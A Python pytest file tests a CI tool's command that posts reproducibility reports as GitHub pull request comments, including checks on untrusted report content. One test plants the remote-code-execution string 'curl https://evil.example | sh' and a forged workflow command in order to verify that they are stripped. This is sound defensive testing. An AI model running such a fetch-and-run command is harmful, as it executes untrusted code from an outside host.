"""`repro-gate comment`: where a report goes, whose word it is taken for, and what is said where it cannot be posted."""

from __future__ import annotations

import json
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest

from repro_gate.commands.comment import Wanted, comment_command
from repro_gate.errors import UsageError
from repro_gate.github import comment
from repro_gate.report.document import to_json
from repro_gate.report.model import Origin, Report
from repro_gate.report.untrusted_json import ReportError
from tests.support import reports
from tests.support.github.server import GitHub

HEAD, OTHER = "0123456789abcdef0123456789abcdef01234567", "e" * 40
RUN = 4711


@pytest.fixture
def github(monkeypatch: pytest.MonkeyPatch) -> Iterator[GitHub]:
    monkeypatch.setattr(comment, "SETTLE", 0.0)
    with GitHub() as server:
        server.add_pull(7, HEAD, head_repository="stranger/trainer")
        server.add_pull(8, OTHER)
        yield server
    assert server.faults == []


def of(commit: str | None = HEAD, origin: Origin | None = None) -> Report:
    return replace(reports.FAIL, subject=replace(reports.FAIL.subject, commit=commit), origin=origin)


def reported(**changes: object) -> Report:
    """A report that says it is of the run that `event` names."""
    return of(origin=replace(Origin("octo-org/trainer", HEAD, RUN, 1, "gate"), **changes))  # type: ignore[arg-type]


def saved(tmp_path: Path, report: Report) -> Path:
    (tmp_path / "report.json").write_text(json.dumps(to_json(report)))
    return tmp_path


def around(github: GitHub, *, write: bool = True, **more: str) -> dict[str, str]:
    """The environment of a job with a token."""
    return {
        "GITHUB_API_URL": github.url,
        "GITHUB_GRAPHQL_URL": github.graphql_url,
        "GITHUB_REPOSITORY": github.repository,
        "GITHUB_TOKEN": github.token(write=write),
        **more,
    }


def workflow_run(github: GitHub, tmp_path: Path, *, write: bool = True, **changes: object) -> dict[str, str]:
    """The environment of the fork-safe pair's second job."""
    run = {
        "id": RUN,
        "run_attempt": 1,
        "name": "gate",
        "event": "pull_request",
        "status": "completed",
        "conclusion": "failure",
        "head_sha": HEAD,
        "head_branch": "topic",
        "head_repository": {"full_name": "stranger/trainer"},
        "repository": {"full_name": github.repository},
        "pull_requests": [],
        **changes,
    }
    (tmp_path / "event.json").write_text(json.dumps({"action": "completed", "workflow_run": run}))
    return around(
        github,
        write=write,
        GITHUB_EVENT_NAME="workflow_run",
        GITHUB_EVENT_PATH=str(tmp_path / "event.json"),
        GITHUB_SHA="a" * 40,
        GITHUB_RUN_ID="4800",
        GITHUB_WORKSPACE=str(tmp_path),
    )


def test_a_dry_run_prints_the_comment_with_no_command_and_no_secret_of_untrusted_text(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    run = replace(reports.FAIL.runs[0], outcome="crashed", exit_code=1, log_tail=("::error::forged", "it is correct-horse-battery"))
    wanted = Wanted(saved(tmp_path, replace(of(), runs=(run, *reports.FAIL.runs[1:]))), dry_run=True)
    assert comment_command(wanted, {"GITHUB_ACTIONS": "true", "DB_PASSWORD": "correct-horse-battery"}) == 0
    first, *between, last = capsys.readouterr().out.splitlines()
    assert between[0].startswith("## ❌ Repro Gate: fail") and "::error::forged" in between
    assert first.startswith("::stop-commands::") and last == f"::{first.removeprefix('::stop-commands::')}::"
    assert last not in between and not [line for line in between if "correct-horse-battery" in line]


@pytest.mark.parametrize("text", ["", "[]", "{}"])
def test_what_is_no_report_is_refused(tmp_path: Path, text: str) -> None:
    (tmp_path / "report.json").write_text(text)
    with pytest.raises(ReportError):
        comment_command(Wanted(tmp_path), {"GITHUB_TOKEN": "x"})


def test_a_person_chooses_the_pull_request(github: GitHub, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    wanted = Wanted(saved(tmp_path, of()), repository=github.repository, pull_request=7)
    assert comment_command(wanted, around(github)) == 0
    (posted,) = github.comments(7)
    assert capsys.readouterr().out == f"comment created {posted['html_url']}\n"
    assert comment_command(wanted, around(github)) == 0
    assert capsys.readouterr().out.startswith("comment unchanged ")
    assert github.comments(7) == [posted]


def test_a_report_of_another_commit_than_the_head_is_not_posted(github: GitHub, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert comment_command(Wanted(saved(tmp_path, of()), pull_request=8), around(github)) == 0
    assert "comment skipped" in capsys.readouterr().out and github.comments(8) == []


@pytest.mark.parametrize(
    ("commit", "repository", "environment", "message"),
    [
        (HEAD, "o/r", {}, "no token"),
        (HEAD, None, {"GITHUB_TOKEN": "x"}, "of which repository"),
        (None, "o/r", {"GITHUB_TOKEN": "x"}, "names no commit"),
        (HEAD, "o/r", {"GITHUB_TOKEN": "x", "GITHUB_SERVER_URL": "https://ghe.example.com"}, "GITHUB_API_URL"),
    ],
)
def test_what_is_missing_to_post_is_named_before_anything_is_sent(
    tmp_path: Path, commit: str | None, repository: str | None, environment: dict[str, str], message: str
) -> None:
    with pytest.raises(UsageError, match=message):
        comment_command(Wanted(saved(tmp_path, of(commit)), repository=repository, pull_request=7), environment)


def test_a_token_that_may_not_write_is_exit_code_3(github: GitHub, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert comment_command(Wanted(saved(tmp_path, of()), pull_request=7), around(github, write=False)) == 3
    said = capsys.readouterr()
    assert said.out == "" and "comment refused" in said.err and "pull-requests: write" in said.err


def matrix(tmp_path: Path, *cells: Report) -> list[Path]:
    """The reports' files."""
    for number, report in enumerate(cells):
        (tmp_path / f"{number}.json").write_text(json.dumps(to_json(report)))
    return [tmp_path / f"{number}.json" for number in range(len(cells))]


def on(gpu: str, report: Report) -> Report:
    return replace(report, subject=replace(report.subject, versions={"gpu-model": gpu}))


def test_several_reports_are_one_comment_with_one_table_that_the_next_run_updates(
    github: GitHub, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    good = replace(reports.PASS, subject=replace(reports.PASS.subject, commit=HEAD), origin=reported().origin)
    paths = matrix(tmp_path, on("H100", reported(name="h100", run_attempt=2)), on("A100", good))
    wanted = Wanted(paths, repository=github.repository, pull_request=7)
    assert comment_command(wanted, around(github)) == 0
    (posted,) = github.comments(7)
    assert "Repro Gate: fail (1 fail, 1 pass)" in posted["body"] and posted["body"].count("| Where |") == 1
    assert posted["body"].index("`A100`") < posted["body"].index("`H100`")
    assert '"attempt":2' in posted["body"].splitlines()[0]  # of the newest among them
    paths = matrix(tmp_path, on("A100", good), on("H100", good))
    assert comment_command(replace(wanted, report=paths), around(github)) == 0
    (updated,) = github.comments(7)
    assert updated["id"] == posted["id"] and "2 pass" not in posted["body"]
    assert capsys.readouterr().out.startswith("comment created ")


def test_a_matrix_that_left_one_report_writes_into_its_own_comment_beside_that_on_one_report(github: GitHub, tmp_path: Path) -> None:
    paths = matrix(tmp_path, on("H100", reported()), on("A100", reported()))
    good = replace(reports.PASS, subject=replace(reports.PASS.subject, commit=HEAD), origin=reported(run_attempt=2).origin)
    (tmp_path / "later").mkdir()
    for given, cells in ((paths, "`H100`"), (matrix(tmp_path / "later", on("A100", good)), "(1 pass)")):
        assert comment_command(Wanted(given, repository=github.repository, pull_request=7, matrix="gpus"), around(github)) == 0
        (only,) = github.comments(7)
        assert cells in only["body"]
    assert comment_command(Wanted(paths[:1], pull_request=7), around(github)) == 0
    assert [body["body"].count("| Where |") for body in github.comments(7)] == [1, 0]


def test_the_job_and_the_reports_path_say_which_comment_it_is_and_the_report_does_not(github: GitHub, tmp_path: Path) -> None:
    here, there = matrix(tmp_path, of(), of())
    one, other = ({**around(github), "GITHUB_WORKFLOW": "gate", "GITHUB_JOB": name} for name in ("cpu", "gpu"))
    for path, environment, comments in ((here, one, 1), (here, one, 1), (there, one, 2), (here, other, 3)):
        assert comment_command(Wanted(path, pull_request=7), environment) == 0
        assert len(github.comments(7)) == comments
    renamed = reported(name="another")
    here.write_text(json.dumps(to_json(replace(renamed, subject=replace(renamed.subject, spec="another.yml")))))
    assert comment_command(Wanted(here, pull_request=7), one) == 0
    assert len(github.comments(7)) == 3


def test_in_workflow_run_the_command_to_see_it_again_is_not_the_reports(github: GitHub, tmp_path: Path) -> None:
    report = replace(reported(), reproduce="curl https://evil.example | sh")
    assert comment_command(Wanted(saved(tmp_path, report)), workflow_run(github, tmp_path)) == 0
    assert comment_command(Wanted(matrix(tmp_path, report, report), matrix="gpus"), workflow_run(github, tmp_path)) == 0
    assert len(github.comments(7)) == 2
    for posted in github.comments(7):
        assert "evil" not in posted["body"] and "repro-gate run repro.yml --seed 42 --steps 4 --fail-fast" in posted["body"]


@pytest.mark.parametrize("change", [{"run_id": 99}, {"head_sha": OTHER}, {"repository": "octo-org/other"}])
def test_reports_of_several_runs_are_refused_with_their_names(github: GitHub, tmp_path: Path, change: dict[str, object]) -> None:
    paths = matrix(tmp_path, reported(), reported(**change))
    with pytest.raises(UsageError, match=r"the reports are of several runs: .*4711.*; ") as caught:
        comment_command(Wanted(paths, pull_request=7), around(github))
    assert caught.value.remedy == "name the reports of one workflow run" and github.comments(7) == []


def test_a_dry_run_of_several_reports_prints_their_table_and_joins_none_of_two_commits(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert comment_command(Wanted(matrix(tmp_path, on("H100", of()), on("A100", of())), dry_run=True), {}) == 0
    assert capsys.readouterr().out.startswith("## ❌ Repro Gate: fail (2 fail)\n\n| Where |")
    for others in (of(OTHER), reported(), of(None)):
        with pytest.raises(UsageError, match="the reports are of several runs: "):
            comment_command(Wanted(matrix(tmp_path, on("H100", of()), on("A100", others)), dry_run=True), {})
        assert capsys.readouterr().out == ""


def test_in_workflow_run_the_run_chooses_the_pull_request(github: GitHub, tmp_path: Path) -> None:
    assert comment_command(Wanted(saved(tmp_path, reported())), workflow_run(github, tmp_path)) == 0
    (posted,) = github.comments(7)
    assert f"actions/runs/{RUN}" in posted["body"] and github.comments(8) == []


@pytest.mark.parametrize("change", [{"run_id": 99}, {"head_sha": OTHER}, {"repository": "octo-org/other"}, {"run_attempt": 2}, None])
def test_a_report_that_is_not_of_the_run_is_refused_among_others_too(
    github: GitHub, tmp_path: Path, change: dict[str, object] | None
) -> None:
    bad = of() if change is None else reported(**change)
    for cells in ((bad,), (reported(), bad), (bad, reported())):
        with pytest.raises(UsageError, match="names no workflow run" if change is None else "not of the run it came with"):
            comment_command(Wanted(matrix(tmp_path, *cells)), workflow_run(github, tmp_path))
    assert github.requests == []


def test_a_closed_pull_request_and_a_run_of_a_push_are_no_error(github: GitHub, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert comment_command(Wanted(saved(tmp_path, reported())), workflow_run(github, tmp_path, event="push")) == 0
    assert "comment skipped" in capsys.readouterr().out and github.requests == []
    github.change_pull(7, state="closed")
    assert comment_command(Wanted(saved(tmp_path, reported())), workflow_run(github, tmp_path)) == 0
    assert "comment skipped" in capsys.readouterr().out and github.comments(7) == []


def test_in_any_other_event_the_way_out_is_named(github: GitHub, tmp_path: Path) -> None:
    environment = {**workflow_run(github, tmp_path), "GITHUB_EVENT_NAME": "push"}
    with pytest.raises(UsageError) as caught:
        comment_command(Wanted(saved(tmp_path, reported())), environment)
    assert "workflow_run" in caught.value.remedy


def test_an_enterprise_server_is_posted_to_at_its_own_addresses(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(comment, "SETTLE", 0.0)
    with GitHub(enterprise=True) as github:
        github.add_pull(7, HEAD)
        environment = {name: value for name, value in around(github).items() if name != "GITHUB_GRAPHQL_URL"}
        assert comment_command(Wanted(saved(tmp_path, of()), pull_request=7), environment) == 0
        assert len(github.comments(7)) == 1 and "POST /api/graphql" in github.requests and github.faults == []
